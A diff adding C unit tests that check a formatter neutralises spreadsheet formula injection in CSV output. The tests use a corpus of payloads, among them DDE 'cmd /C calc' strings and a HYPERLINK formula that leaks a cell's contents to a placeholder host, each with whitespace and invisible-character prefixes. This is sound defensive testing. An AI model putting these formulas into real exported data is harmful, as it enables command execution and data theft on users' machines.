@@ -94,6 +94,48 @@ Test(format, formulas_are_neutralised_in_csv)
 	}
 }
 
+/* Each way in which a cell can begin, before each thing that a spreadsheet would do. */
+Test(format, a_corpus_of_formulas_is_neutralised_in_csv)
+{
+	static const char *const begin[] = { "", " ", "   ", "\xc2\xa0", "\xef\xbb\xbf", "\xe2\x80\x8b", "\xe3\x80\x80", " \xc2\xa0 " };
+	static const char *const payload[] = { "=1+1", "+1+1", "-1+1", "@SUM(A1:A2)", "=cmd|'/C calc'!A0", "+cmd|'/C calc'!A0",
+		"-cmd|'/C calc'!A0", "@cmd|'/C calc'!A0", "=HYPERLINK(\"http://x?\"&A1,\"y\")", "=IMPORTXML(\"http://x\",\"//a\")",
+		"=WEBSERVICE(\"http://x\")", "=DDE(\"cmd\";\"/C calc\";\"a\")", "=-1", "==1", "=\t1", "\t=1", "\r=1", "\n=1",
+		"|calc", "%0A=1", "\xef\xbc\x9d" "1+1", "\xef\xbc\x8b" "1", "\xef\xbc\x8d" "1", "\xef\xbc\xa0" "SUM(1)", "=A1;=A2" };
+	size_t cells = 0;
+	(void)setlocale(LC_CTYPE, "C.UTF-8");
+	for (size_t i = 0; i < ARRAY_LEN(begin); i++) {
+		for (size_t k = 0; k < ARRAY_LEN(payload); k++) {
+			char name[200];
+			size_t len = 0;
+			(void)snprintf(name, sizeof(name), "%s%s", begin[i], payload[k]);
+			char *text = print(FORMAT_CSV, name, true, &len);
+			cr_expect(strstr(text, ",,'") || strstr(text, ",,\"'"), "%s", text);
+			free(text);
+			cells++;
+		}
+	}
+	cr_expect(ge(sz, cells, 100));
+}
+
+/* What only looks alike stays as it was; and a semicolon begins no cell of its own. */
+Test(format, other_text_is_left_alone_in_csv)
+{
+	static const char *const plain[] = { "a=b", "1-2", "mail@example.org", "100%", "x|y", "Umeå", "'quoted" };
+	for (size_t i = 0; i < ARRAY_LEN(plain); i++) {
+		char want[64];
+		size_t len = 0;
+		char *text = print(FORMAT_CSV, plain[i], true, &len);
+		(void)snprintf(want, sizeof(want), ",,%s,", plain[i]);
+		cr_expect(strstr(text, want) != NULL, "%s in %s", want, text);
+		free(text);
+	}
+	size_t len = 0;
+	char *text = print(FORMAT_CSV, "a;=1+1", true, &len);
+	cr_expect(strstr(text, ",,\"a;=1+1\",") != NULL, "%s", text);
+	free(text);
+}
+
 Test(format, csv_quotes_what_it_must)
 {
 	size_t len = 0;
